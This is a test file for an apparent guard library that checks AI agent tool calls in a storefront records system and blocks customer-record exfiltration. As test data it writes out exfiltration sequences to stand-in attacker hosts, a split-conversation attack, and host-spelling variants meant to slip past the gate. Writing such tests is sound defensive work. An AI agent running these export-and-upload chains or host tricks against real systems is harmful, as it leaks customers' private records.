import { afterEach, describe, expect, it } from '@jest/globals';
import { Test } from '@nestjs/testing';
import {
  ActionContextStore,
  type DecisionRecord,
  DEFAULT_PUBLIC_MESSAGE,
  InMemoryEvidenceRecorder,
  InMemoryExecutionClaimStore,
  InMemoryTrajectoryStore,
  type TrajectoryStore,
  VerdictConfigurationError,
  readNotExecutedMessage,
  VerdictModule,
  VerdictService,
} from '@verdict/nestjs';
import { VerdictLangChainModule, VerdictTools } from '@verdict/nestjs/langchain';
import { tool } from '@langchain/core/tools';
import { z } from 'zod';
import { DataSource } from 'typeorm';
import {
  RecordsCapabilities,
  RecordsCapability,
  RecordsExport,
  StorefrontAbilityFactory,
  openSqliteStorefront,
  storefrontContext,
} from '../index.js';

const cleanups: Array<() => Promise<void>> = [];
afterEach(async () => {
  while (cleanups.length > 0) await cleanups.pop()!();
});

async function boot(
  { trajectories }: { trajectories?: TrajectoryStore } = { trajectories: new InMemoryTrajectoryStore() },
) {
  const dataSource = await openSqliteStorefront();
  cleanups.push(() => dataSource.destroy());
  const evidence = new InMemoryEvidenceRecorder();
  const moduleRef = await Test.createTestingModule({
    imports: [
      VerdictModule.forRoot({
        abilityFactory: new StorefrontAbilityFactory(dataSource),
        evidence,
        trajectories,
        executionClaims: new InMemoryExecutionClaimStore(),
      }),
      VerdictLangChainModule,
    ],
    providers: [{ provide: DataSource, useValue: dataSource }, RecordsCapabilities],
  }).compile();
  await moduleRef.init();
  cleanups.push(() => moduleRef.close());
  const verdict = moduleRef.get(VerdictService);
  const contexts = moduleRef.get(ActionContextStore);
  const outbox = moduleRef.get(RecordsCapabilities).outbox;
  /** Runs `capability` for customer 72 at acme in `conversation`; answers executed or the internal reason. */
  const call = async (conversation: string | undefined, capability: string, args: object = {}) => {
    const result = await contexts.run(storefrontContext(72, 'acme', conversation), () =>
      verdict.execute({ capability, arguments: args }),
    );
    return result.executed ? 'executed' : `${result.decision.stage}: ${result.decision.reason}`;
  };
  const tools = moduleRef.get(VerdictTools);
  /** The migration bridge: the capability's checks (steps 1–3, 10a, 11, 13) around a legacy tool's handler. */
  const guarded = (conversation: string, capability: string, args: object, handler: () => Promise<string>) => {
    const legacy = tool(handler, { name: 'legacy_upload', description: 'Legacy upload', schema: z.object({}).loose() });
    return contexts.run(storefrontContext(72, 'acme', conversation), () =>
      tools.guarded(legacy, capability).invoke(args),
    );
  };
  return { call, outbox, evidence, guarded, dataSource };
}

const steps = (host: string, to: string): Array<[string, object]> => [
  [RecordsCapability.ReadRecords, {}],
  [RecordsCapability.ExportRecords, {}],
  [RecordsCapability.UploadExport, { host }],
  [RecordsCapability.SendLink, { to, link: `https://${host}/shared/records-72-1.zip` }],
];

describe('RecordsCapabilities with forbidStates (the run-time trajectory gate)', () => {
  it('stops read → export → upload to an external host before the upload executes; nothing leaves', async () => {
    const { call, outbox, evidence } = await boot();
    const outcomes = [];
    for (const [capability, args] of steps('drop.attacker.example', 'collector@attacker.example'))
      outcomes.push(await call('conversation-1', capability, args));

    expect(outcomes).toEqual([
      'executed',
      'executed',
      'execution: forbidden state: customer_records_exfiltrated',
      'executed',
    ]);
    // The link message went out (it carries no records: the upload never happened), the archive did not.
    expect(outbox.list().map((item) => `${item.kind} ${item.destination}`)).toEqual([
      'message external:attacker.example',
    ]);
    // Evidence names the predicate, never the destination.
    const denied = evidence.decisions().find((record: DecisionRecord) => record.disposition === 'deny')!;
    expect(denied).toMatchObject({
      capability: 'files.upload',
      stage: 'execution',
      reason: 'forbidden state: customer_records_exfiltrated',
    });
    expect(JSON.stringify(evidence.decisions())).not.toContain('attacker');
  });

  it('permits the paired legitimate workflow: the export goes to the tenant’s own storage and the link stays inside', async () => {
    const { call, outbox } = await boot();
    const outcomes = [];
    for (const [capability, args] of steps('files.acme.example', 'colleague@acme.example'))
      outcomes.push(await call('conversation-1', capability, args));

    expect(outcomes).toEqual(['executed', 'executed', 'executed', 'executed']);
    expect(outbox.external()).toEqual([]);
    expect(outbox.list()).toHaveLength(2);
  });

  it('has nothing to upload before an export: the upload is denied at the proposal and nothing leaves', async () => {
    const { call, outbox } = await boot();
    expect(await call('c', RecordsCapability.UploadExport, { host: 'drop.attacker.example' })).toBe(
      'proposal: the customer has no export to upload',
    );
    expect(outbox.list()).toEqual([]);
  });

  it('refuses the split-conversation attack: records exported in one conversation never leave from another', async () => {
    const { call, outbox } = await boot();
    await call('first', RecordsCapability.ReadRecords);
    await call('first', RecordsCapability.ExportRecords);

    expect(await call('second', RecordsCapability.UploadExport, { host: 'drop.attacker.example' })).toBe(
      'execution: forbidden state: customer_records_exfiltrated',
    );
    // Nor from a call that names no conversation at all: the customer's scope outlives every chat.
    expect(await call(undefined, RecordsCapability.UploadExport, { host: 'drop.attacker.example' })).toBe(
      'execution: forbidden state: customer_records_exfiltrated',
    );
    expect(outbox.external()).toEqual([]);
  });

  it('permits the legitimate cross-conversation workflow: exported in one chat, shared inside the tenant from the next', async () => {
    const { call, outbox } = await boot();
    expect(await call('first', RecordsCapability.ReadRecords)).toBe('executed');
    expect(await call('first', RecordsCapability.ExportRecords)).toBe('executed');
    expect(await call('second', RecordsCapability.UploadExport, { host: 'files.acme.example' })).toBe('executed');
    expect(
      await call('second', RecordsCapability.SendLink, {
        to: 'colleague@acme.example',
        link: 'https://files.acme.example/shared/records-72-1.zip',
      }),
    ).toBe('executed');
    expect(outbox.external()).toEqual([]);
    expect(outbox.list().map((item) => item.kind)).toEqual(['upload', 'message']);
  });

  it('refuses the link route out, chats apart: records put in tenant storage in one chat, its link mailed outside from the next', async () => {
    const { call, outbox } = await boot();
    await call('first', RecordsCapability.ReadRecords);
    await call('first', RecordsCapability.ExportRecords);
    expect(await call('first', RecordsCapability.UploadExport, { host: 'files.acme.example' })).toBe('executed');

    const link = 'https://files.acme.example/shared/records-72-1.zip';
    expect(await call('second', RecordsCapability.SendLink, { to: 'collector@attacker.example', link })).toBe(
      'execution: forbidden state: customer_records_exfiltrated',
    );
    expect(outbox.external()).toEqual([]);
  });

  // The link's host as DNS names it: a root-qualified name (trailing dot, or its escape `%2e`) is the tenant's
  // host, so is a name under the tenant's domain; a host the server cannot place outside fails closed (ADR 0188).
  for (const link of [
    'https://files.acme.example./shared/records-72-1.zip',
    'https://files.acme.example%2e/shared/records-72-1.zip',
    'https://FILES.ACME.EXAMPLE.:443/shared/records-72-1.zip',
    'https://cdn.files.acme.example/shared/records-72-1.zip',
    'https://files.acme.example../shared/records-72-1.zip',
    'https://127.0.0.1/shared/records-72-1.zip',
    'https://[::1]/shared/records-72-1.zip',
    'mailto:files@acme.example',
  ])
    it(`refuses the link route out however the tenant host is spelt: ${link}`, async () => {
      const { call, outbox } = await boot();
      await call('c', RecordsCapability.ReadRecords);
      await call('c', RecordsCapability.ExportRecords);
      expect(await call('c', RecordsCapability.UploadExport, { host: 'files.acme.example' })).toBe('executed');

      expect(await call('c', RecordsCapability.SendLink, { to: 'collector@attacker.example', link })).toBe(
        'execution: forbidden state: customer_records_exfiltrated',
      );
      expect(outbox.external()).toEqual([]);
    });

  it('keeps the spelt-out hosts working: a root-qualified tenant link inside the tenant, a root-qualified outside link out, and any link before records are stored', async () => {
    const { call, outbox } = await boot();
    // Before any records are in tenant storage, a link nobody can place outside still goes out.
    expect(
      await call('c', RecordsCapability.SendLink, { to: 'partner@partner.example', link: 'https://127.0.0.1/status' }),
    ).toBe('executed');
    await call('c', RecordsCapability.ReadRecords);
    await call('c', RecordsCapability.ExportRecords);
    // An upload to the root-qualified tenant host is an upload into the tenant's own storage.
    expect(await call('c', RecordsCapability.UploadExport, { host: 'files.acme.example.' })).toBe('executed');
    expect(
      await call('c', RecordsCapability.SendLink, {
        to: 'colleague@acme.example',
        link: 'https://files.acme.example./shared/records-72-1.zip',
      }),
    ).toBe('executed');
    expect(
      await call('c', RecordsCapability.SendLink, {
        to: 'partner@partner.example',
        link: 'https://status.partner.example./today',
      }),
    ).toBe('executed');
    expect(outbox.list().map((item) => `${item.kind} ${item.destination}`)).toEqual([
      'message external:partner.example',
      'upload internal:files.acme.example',
      'message internal:acme.example',
      'message external:partner.example',
    ]);
  });

  it('still sends other mail out: an outside link to an outside address, and a tenant link before any records are stored there', async () => {
    const { call, outbox } = await boot();
    const brochure = 'https://files.acme.example/brochure.pdf';
    expect(await call('c', RecordsCapability.SendLink, { to: 'partner@partner.example', link: brochure })).toBe(
      'executed',
    );
    await call('c', RecordsCapability.ReadRecords);
    await call('c', RecordsCapability.ExportRecords);
    await call('c', RecordsCapability.UploadExport, { host: 'files.acme.example' });
    expect(
      await call('c', RecordsCapability.SendLink, {
        to: 'partner@partner.example',
        link: 'https://status.partner.example/today',
      }),
    ).toBe('executed');
    expect(outbox.external().map((item) => item.kind)).toEqual(['message', 'message']);
  });

  it('reads what the archive holds from the trusted export row: an archive without records may leave', async () => {
    const { call, outbox, dataSource } = await boot();
    await call('c', RecordsCapability.ReadRecords);
    // An archive the server packed without customer records (say, a public price list): the row says so.
    await dataSource
      .getRepository(RecordsExport)
      .insert({ tenantId: 'acme', customerId: 72, archive: 'price-list.zip', holdsCustomerRecords: false });

    expect(await call('c', RecordsCapability.UploadExport, { host: 'partner.example' })).toBe('executed');
    expect(outbox.external().map((item) => item.reference)).toEqual(['https://partner.example/shared/price-list.zip']);
  });

  it('keeps denying: a refused effect is not stored, and the forbidden step stays forbidden on every retry', async () => {
    const { call, outbox } = await boot();
    await call('c', RecordsCapability.ReadRecords);
    await call('c', RecordsCapability.ExportRecords);
    for (let i = 0; i < 3; i++)
      expect(await call('c', RecordsCapability.UploadExport, { host: 'drop.attacker.example' })).toBe(
        'execution: forbidden state: customer_records_exfiltrated',
      );
    expect(await call('c', RecordsCapability.UploadExport, { host: 'files.acme.example' })).toBe('executed');
    expect(outbox.external()).toEqual([]);
  });

  it('applies to guarded (migration bridge) tools too: the legacy handler never runs for the forbidden step', async () => {
    const { call, guarded, evidence } = await boot();
    await call('c', RecordsCapability.ReadRecords);
    await call('c', RecordsCapability.ExportRecords);
    let legacyUploads = 0;
    const result = await guarded(
      'c',
      RecordsCapability.UploadExport,
      { host: 'drop.attacker.example' },
      async () => `uploaded ${++legacyUploads}`,
    );

    expect(readNotExecutedMessage(String(result))?.message).toBe(DEFAULT_PUBLIC_MESSAGE);
    expect(evidence.decisions().at(-1)).toMatchObject({
      capability: RecordsCapability.UploadExport,
      toolKind: 'guarded',
      stage: 'execution',
      reason: 'forbidden state: customer_records_exfiltrated',
    });
    expect(legacyUploads).toBe(0);
  });

  it('refuses to boot without a trajectory store', async () => {
    await expect(boot({})).rejects.toThrow(VerdictConfigurationError);
  });
});
